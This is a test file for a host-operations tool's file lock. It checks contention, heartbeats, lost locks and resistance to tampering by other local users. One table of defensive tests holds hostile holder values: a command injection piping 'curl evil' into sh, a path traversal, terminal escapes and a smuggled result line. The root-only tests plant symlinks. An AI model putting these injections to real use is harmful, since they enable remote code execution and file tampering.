import { spawnSync } from 'node:child_process'
import { createHash, randomUUID } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  lutimesSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { Event } from '../../src/engine/events.ts'
import type { Holder, HolderStatus, LockInput } from '../../src/engine/holder.ts'
import { LOCK_SCRIPT } from '../../src/engine/lock-script.ts'
import type { Clock } from '../../src/engine/run-input.ts'
import type { Failure } from '../../src/failure.ts'
import { localTransport } from '../../src/transport/local.ts'
import { play, realClock, type Scenario, setKind } from '../rig/engine.ts'
import { until } from '../rig/observe.ts'

const transport = localTransport()
afterAll(() => transport.close())

const lockAs = (runId: string, judge: HolderStatus = 'alive', waitMs = 0): LockInput => ({
  holder: {
    runId,
    who: 'test@here',
    pid: process.pid,
    since: '2026-11-20T18:09:00Z',
    machine: 'm',
    boot: 'b',
    processStart: '1',
  } satisfies Holder,
  judge: () => judge,
  waitMs,
})

const newName = () => `checkout:/nowhere/${randomUUID()}`

/** A run that holds its lock until it is let go. */
async function holding(name: string, lock: LockInput, work: () => Promise<unknown>, clock = realClock) {
  let others: Promise<unknown> = Promise.resolve()
  const end = await play({
    transport,
    lock,
    clock,
    steps: [{ id: 'a', timeoutMs: 60_000, with: { name: 'x', to: '1', lock: name, waitMs: 60_000 } }],
    onEvent(event, running) {
      if (event.type !== 'step-started') return
      others = work().finally(() => running.control.interrupt('SIGTERM'))
    },
  })
  await others
  return end
}

describe('the lock on the target', () => {
  test('refuses a second run, names the first one, and is free again after it', async () => {
    const name = newName()
    const second = () =>
      play({
        transport,
        lock: lockAs('second'),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
    await holding(name, lockAs('first'), async () => {
      const { end, calls } = await second()
      expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'lock-held', what: name } })
      expect(end.failure).toMatchObject({ holder: expect.stringContaining('run first (test@here') })
      expect(calls).toEqual([])
    })
    expect((await second()).end.outcome).toBe('succeeded')
  })

  test.each([
    ['alive', 'm'],
    ['unknown', 'elsewhere'],
  ] as const)('is not taken from another run of the same id that is %s', async (judge, machine) => {
    const name = newName()
    await holding(name, lockAs('same'), async () => {
      const other = { ...lockAs('same', judge), holder: { ...lockAs('same').holder, pid: 1, machine } }
      const { end, calls } = await play({
        transport,
        lock: other,
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
      expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'lock-held' } })
      expect(calls).toEqual([])
    })
  })

  /** A quarter of a minute between two beats is a moment here. */
  const quickHeart = () => {
    let beats = 0
    const clock: Clock = {
      now: realClock.now,
      sleep(ms, signal) {
        if (ms === 15_000) beats += 1
        return realClock.sleep(ms === 15_000 ? 50 : ms, signal)
      },
    }
    const beaten = (more: number, from = beats) => until(`${more} beats`, () => beats > from + more)
    return { clock, beaten }
  }

  describe('that somebody takes away while the run lives', () => {
    const theirs = JSON.stringify({ ...lockAs('other').holder, who: 'them@there' })
    const inScript = (verb: string, name: string, content = '') => {
      const file = `${createHash('sha256').update(name).digest('hex').slice(0, 32)}.lock`
      spawnSync('sh', ['-c', LOCK_SCRIPT, 'lock', verb, file, content, ''])
    }
    const lines = (events: readonly Event[]) =>
      events.flatMap(event => (event.type === 'said' && event.id === 'lock' ? [event.line] : []))

    /** A run in the midst of which, where `x` is set or restored, somebody takes its lock away. */
    async function robbed(
      steps: Scenario['steps'],
      where: 'run' | 'restore',
      rob = () => inScript('write', name, theirs),
    ) {
      const { clock, beaten } = quickHeart()
      const kind: Scenario['kind'] = (host, calls) => {
        const set = setKind(host, calls)
        const act = (where === 'run' ? set.act.run : set.undo!.restore!) as typeof set.act.run
        const midst: typeof set.act.run = async (ctx, input, snapshot) => {
          try {
            return await act(ctx, input, snapshot)
          } finally {
            if ((input as { name: string }).name === 'x') {
              rob()
              await beaten(4)
            }
          }
        }
        return where === 'run'
          ? { ...set, act: { ...set.act, run: midst } }
          : { ...set, undo: { ...set.undo, restore: midst } }
      }
      const played = await play({ transport, lock: lockAs('first'), clock, steps, kind })
      inScript('remove', name)
      return played
    }
    let name = ''
    beforeEach(() => {
      name = newName()
    })
    const broken: Failure = { code: 'command-failed', argv: ['x'], exitCode: 1, signal: null, tail: '' }
    const x = { id: 'x', with: { name: 'x', to: '1' } }
    const locked = (with_: object = {}) => ({ ...x, with: { ...x.with, lock: name, ...with_ } })
    const y = { id: 'y', with: { name: 'y', to: '1' } }

    test('is told, once, by whom; no step is begun beside them and nothing taken back', async () => {
      const { end, calls, events, host } = await robbed([locked(), y], 'run')
      expect(end).toMatchObject({
        outcome: 'failed-changed',
        failure: { code: 'lock-lost', what: name, holder: 'run other (them@there)' },
      })
      expect(calls.filter(call => !call.startsWith('snapshot'))).toEqual(['run x'])
      expect(host).toEqual({ x: '1' })
      expect(lines(events)).toEqual([expect.stringContaining("is not this run's any more")])
    })

    test('before anything was done: refused', async () => {
      const { end, calls } = await robbed([locked({ effect: 'read' }), y], 'run')
      expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'lock-lost' } })
      expect(calls).toEqual(['run x'])
    })

    test.each([1, 3])(
      'in a step that fails and has %i attempts: it is not tried again, and the failure is that nothing is taken back',
      async attempts => {
        const retry = { attempts, delayMs: 1, backoff: 1, maxDelayMs: 1 }
        const { end, calls } = await robbed([y, { ...locked({ fail: broken }), retry }], 'run')
        expect(end).toMatchObject({
          outcome: 'failed-changed',
          failedStep: 'x',
          failure: { code: 'lock-lost' },
        })
        expect(calls.filter(call => !call.startsWith('snapshot'))).toEqual(['run y', 'run x'])
      },
    )

    test('in the last step: what was seen to be good is good', async () => {
      expect((await robbed([locked()], 'run')).end.outcome).toBe('succeeded')
    })

    test('on the way back: what is not done remains, and why', async () => {
      const failing = { id: 'z', with: { name: 'z', to: '1', fail: broken } }
      const { end, calls, events } = await robbed([y, locked(), failing], 'restore')
      expect(end.outcome).toBe('rollback-failed')
      expect(calls.filter(call => call.startsWith('restore'))).toEqual(['restore z', 'restore x'])
      const { remains } = events.find(event => event.type === 'rollback-finished')!
      expect(remains[0]).toMatchObject({ code: 'lock-lost' })
      expect(remains).toContainEqual({ code: 'not-done', movement: 'restore', step: 'y' })
    })

    test('and nobody has it: it is taken again, and the run goes on', async () => {
      const { end, events } = await robbed([locked(), y], 'run', () => inScript('remove', name))
      expect(end.outcome).toBe('succeeded')
      expect(lines(events)).toEqual([`the lock on ${name} was gone, and is taken again`])
    })
  })

  test('is kept fresh while the run lives, so that others are told how long ago it was seen', async () => {
    const name = newName()
    const { clock, beaten } = quickHeart()
    const seen = async () => {
      const { end } = await play({
        transport,
        lock: lockAs('second'),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
      return Number(/last seen (\d+) s ago/.exec((end.failure as { holder?: string }).holder ?? '')?.[1])
    }
    const work = async () => {
      const file = join(
        '/var/tmp/hostops-locks',
        `${createHash('sha256').update(name).digest('hex').slice(0, 32)}.lock`,
      )
      const anHourAgo = Date.now() / 1000 - 3600
      lutimesSync(file, anHourAgo, anHourAgo)
      await beaten(4)
      expect(await seen()).toBeLessThan(600)
    }
    await holding(name, lockAs('first'), work, clock)
  })

  test('is waited for as long as the caller says', async () => {
    const name = newName()
    let waiting: Promise<unknown> = Promise.resolve()
    const said: string[] = []
    await holding(name, lockAs('first'), async () => {
      waiting = play({
        transport,
        lock: lockAs('second', 'alive', 60_000),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
        onEvent: event => event.type === 'checked' && said.push(event.text),
      }).then(({ end }) => expect(end.outcome).toBe('succeeded'))
      await until('it waits', () => said.length > 0)
    })
    await waiting
    expect(said).toEqual(['waits for run first (test@here)'])
  })

  test('is not waited for any longer than that, nor beside who stops the run', async () => {
    const name = newName()
    await holding(name, lockAs('first'), async () => {
      const wait = (waitMs: number, stopped: boolean, clock = realClock) =>
        play({
          transport,
          clock,
          lock: lockAs('second', 'alive', waitMs),
          steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
          onEvent(event, running) {
            if (stopped && event.type === 'checked') running.control.interrupt('SIGINT')
          },
        })
      const slept: number[] = []
      const clock: Clock = {
        // Of this clock nothing but the waiting takes time.
        now: () => slept.reduce((sum, ms) => sum + ms, 0),
        sleep: (ms, signal) => {
          if (ms > 1000) return realClock.sleep(ms, signal)
          slept.push(ms)
          return Promise.resolve()
        },
      }
      const { end } = await wait(2500, false, clock)
      expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'lock-held' } })
      expect(slept).toEqual([1000, 1000, 500])
      const left = await wait(60_000, true)
      expect(left.end).toMatchObject({ outcome: 'interrupted', failure: { code: 'interrupted' } })
      expect(left.calls).toEqual([])
    })
  })

  test('of a holder that is proven dead: its unfinished run is named, never ignored', async () => {
    const name = newName()
    await holding(name, lockAs('first'), async () => {
      const { end } = await play({
        transport,
        lock: lockAs('second', 'interrupted'),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
      expect(end).toMatchObject({ outcome: 'refused', failure: { code: 'interrupted-run', runId: 'first' } })
    })
  })

  test('of a holder that is proven dead and whose run has no record: told with the file that is in the way', async () => {
    const name = newName()
    await holding(name, lockAs('first'), async () => {
      const { end } = await play({
        transport,
        // Waiting would not help.
        lock: lockAs('second', 'lost', 60_000),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
      const lock = expect.stringMatching(/^\/var\/tmp\/hostops-locks\/[0-9a-f]{32}\.lock$/)
      expect(end).toMatchObject({
        outcome: 'refused',
        failure: { code: 'record-gone', runId: 'first', lock },
      })
    })
  })

  test.each<[string, object]>([
    ['a path for its run', { runId: '../../../../tmp/evil' }],
    ['a command for its run', { runId: 'x; curl evil | sh' }],
    ['escapes', { who: '\u001b]0;x\u0007' }],
    ['a line break', { since: 'now\nOPENCLAW_RESULT_JSON:{}' }],
    ['a novel', { machine: 'm'.repeat(500) }],
    ['no process', { pid: -1 }],
  ])(
    'with %s was not written by hostops, whatever another user of the machine put there',
    async (_, fields) => {
      const name = newName()
      const file = `${createHash('sha256').update(name).digest('hex').slice(0, 32)}.lock`
      const content = JSON.stringify({ ...lockAs('other').holder, ...fields })
      const as = (verb: string) => spawnSync('sh', ['-c', LOCK_SCRIPT, 'x', verb, file, content, '']).stdout
      expect(String(as('acquire'))).toBe('mine\n')
      try {
        const { end } = await play({
          transport,
          lock: { ...lockAs('second'), judge: () => expect.unreachable() },
          steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
        })
        expect(end).toMatchObject({
          outcome: 'refused',
          failure: { code: 'lock-held', holder: 'something that hostops did not write' },
        })
      } finally {
        as('release')
      }
    },
  )

  test('of a holder that is proven dead after it had finished is taken over', async () => {
    const name = newName()
    await holding(name, lockAs('first'), async () => {
      const { end } = await play({
        transport,
        lock: lockAs('second', 'finished'),
        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
      })
      expect(end.outcome).toBe('succeeded')
    })
  })

  test('raced for by many has never two holders', async () => {
    const name = newName()
    let inside = 0
    let most = 0
    let won = 0
    const racer = async (n: number) => {
      const { end } = await play({
        transport,
        lock: lockAs(`racer-${n}`),
        steps: [{ id: 'a', with: { name: 'x', to: '1', lock: name, waitMs: 5 } }],
        onEvent(event) {
          if (event.type === 'step-started') most = Math.max(most, ++inside)
          if (event.type === 'step-finished') inside -= 1
        },
      })
      if (end.outcome === 'succeeded') won += 1
    }
    for (let round = 0; round < 25; round += 1) await Promise.all([1, 2, 3, 4].map(n => racer(round * 4 + n)))
    expect(most).toBe(1)
    expect(won).toBeGreaterThanOrEqual(25)
  })
})

/** The script itself, with other folders than those of this machine. */
function askIn(
  folders: readonly string[],
  verb: string,
  name: string,
  mine: string,
  expected = '',
): string[] {
  const text = LOCK_SCRIPT.replace(/^dirs=.*$/m, `dirs="${folders.join(' ')}"`)
  return spawnSync('sh', ['-c', text, 'lock', verb, name, mine, expected], { encoding: 'utf8' }).stdout.split(
    '\n',
  )
}

describe.skipIf(process.platform === 'win32')(
  'a lock in a folder that is no longer the first one to use',
  () => {
    let scratch = ''
    let folders: string[] = []
    beforeEach(() => {
      scratch = mkdtempSync(join(tmpdir(), 'hostops-lock-'))
      folders = [join(scratch, 'first'), join(scratch, 'second')]
    })
    afterEach(() => rmSync(scratch, { recursive: true, force: true }))
    /** As a file system that turns read-only, also for root. */
    const close = () => {
      renameSync(folders[0]!, join(scratch, 'kept'))
      symlinkSync(join(scratch, 'kept'), folders[0]!)
    }

    test('still holds, is touched, replaced and released there', () => {
      expect(askIn(folders, 'acquire', 'a.lock', 'one')[0]).toBe('mine')
      close()
      expect(askIn(folders, 'acquire', 'a.lock', 'two').slice(0, 2)).toEqual([
        expect.stringMatching(/^held /),
        'one',
      ])
      expect(askIn(folders, 'touch', 'a.lock', 'one')[0]).toBe('mine')
      expect(askIn(folders, 'touch', 'a.lock', 'two')[0]).toMatch(/^lost/)
      expect(askIn(folders, 'replace', 'a.lock', 'two', 'one')[0]).toBe('mine')
      expect(askIn(folders, 'acquire', 'a.lock', 'three')[1]).toBe('two')
      expect(askIn(folders, 'touch', 'a.lock', 'one')[0]).toMatch(/^lost/)
      expect(askIn(folders, 'release', 'a.lock', 'two')[0]).toBe('released')
      expect(askIn(folders, 'acquire', 'a.lock', 'three')[0]).toBe('mine')
    })

    test('a word is written, read from wherever it is, and removed', () => {
      expect(askIn(folders, 'read', 'w.lock', '')[0]).toBe('none')
      expect(existsSync(folders[0]!)).toBe(false)
      askIn(folders, 'write', 'w.lock', 'one')
      askIn(folders, 'write', 'w.lock', 'two')
      close()
      expect(askIn(folders, 'read', 'w.lock', '').slice(0, 2)).toEqual([
        expect.stringMatching(/^held /),
        'two',
      ])
      askIn(folders, 'remove', 'w.lock', '')
      expect(askIn(folders, 'read', 'w.lock', '')[0]).toBe('none')
    })
  },
)

describe('several locks', () => {
  const [a, b] = [`a:${randomUUID()}`, `b:${randomUUID()}`]
  const wants = (names: string[], as = 'second') =>
    play({
      transport,
      lock: lockAs(as),
      steps: names.map(name => ({ id: name.slice(0, 1), with: { name, to: '1', lock: name } })),
    })

  test('are taken in one order for all runs, whatever the order of the steps', async () => {
    await holding(a, lockAs('first'), () =>
      holding(b, lockAs('third'), async () => {
        expect((await wants([b, a])).end.failure).toMatchObject({ code: 'lock-held', what: a })
        expect((await wants([a, b])).end.failure).toMatchObject({ code: 'lock-held', what: a })
      }),
    )
  })

  test('are all free again when one of them is held', async () => {
    await holding(b, lockAs('first'), async () => {
      expect((await wants([a, b])).end.failure).toMatchObject({ code: 'lock-held', what: b })
      expect((await wants([a], 'fourth')).end.outcome).toBe('succeeded')
    })
  })
})

describe('a lock that is somebody else’s by now', () => {
  let folder = ''
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'hostops-lock-'))
  })
  afterEach(() => rmSync(folder, { recursive: true, force: true }))
  const ask = (verb: string, mine: string, expected?: string) =>
    askIn([join(folder, 'locks')], verb, 'a.lock', mine, expected).join('\n')

  test('is not replaced by who saw another holder, and is by who saw this one', () => {
    ask('acquire', 'them')
    expect(ask('replace', 'us', 'somebody before them')).toMatch(/^held \d+ \S+\nthem\n$/)
    expect(ask('replace', 'us', 'them')).toBe('mine\n')
  })
  test('is neither released nor kept fresh by who lost it', () => {
    ask('acquire', 'them')
    expect(ask('release', 'us')).toBe('released\n')
    expect(ask('touch', 'us')).toMatch(/^lost \d+ \S+\nthem\n$/)
    expect(ask('acquire', 'us')).toMatch(/^held \d+ \S+\nthem\n$/)
  })
})

const asRoot = process.platform === 'linux' && process.getuid?.() === 0
const NOBODY = 65534

describe.skipIf(!asRoot)('a lock folder that another user of the machine made first', () => {
  let scratch = ''
  let precious = ''
  beforeEach(() => {
    scratch = mkdtempSync(join(tmpdir(), 'hostops-lock-'))
    chmodSync(scratch, 0o1777)
    precious = join(scratch, 'precious')
    writeFileSync(precious, 'kept', { mode: 0o600 })
  })
  afterEach(() => rmSync(scratch, { recursive: true, force: true }))

  const asThem = (text: string) =>
    spawnSync('sh', ['-c', text], { cwd: scratch, uid: NOBODY, gid: NOBODY, encoding: 'utf8' })
  const asUs = (verb: string, name: string, mine: string) => {
    return askIn([join(scratch, 'locks')], verb, name, mine)
  }
  const untouched = () => {
    expect(readFileSync(precious, 'utf8')).toBe('kept')
    expect(statSync(precious).mode & 0o777).toBe(0o600)
  }

  test('becomes root’s and sticky, so that nobody can take a lock away', () => {
    asThem('umask 0; mkdir locks')
    expect(asUs('acquire', 'a.lock', 'us')[0]).toBe('mine')
    const { uid, mode } = statSync(join(scratch, 'locks'))
    expect([uid, mode & 0o7777]).toEqual([0, 0o1777])
    expect(asThem('rm -f locks/a.lock').status).not.toBe(0)
    expect(asUs('touch', 'a.lock', 'us')[0]).toBe('mine')
    expect(asUs('acquire', 'a.lock', 'them')[0]).toMatch(/^held \d+ \S+$/)
  })

  test('leads to no file of ours, whatever names were prepared in it', () => {
    asThem(`mkdir locks; cd locks; for name in .mutex a.lock; do ln -s ${precious} $name; done`)
    expect(asUs('acquire', 'a.lock', 'us')).toEqual([expect.stringMatching(/^held \d+ \S+$/), precious, ''])
    untouched()
  })

  test('is not used when it is a link to somewhere else', () => {
    mkdirSync(join(scratch, 'ours'))
    asThem('ln -s ours locks')
    expect(asUs('acquire', 'a.lock', 'us')[0]).toBe(`unwritable ${scratch}/locks`)
    expect(readdirSync(join(scratch, 'ours'))).toEqual([])
  })
})
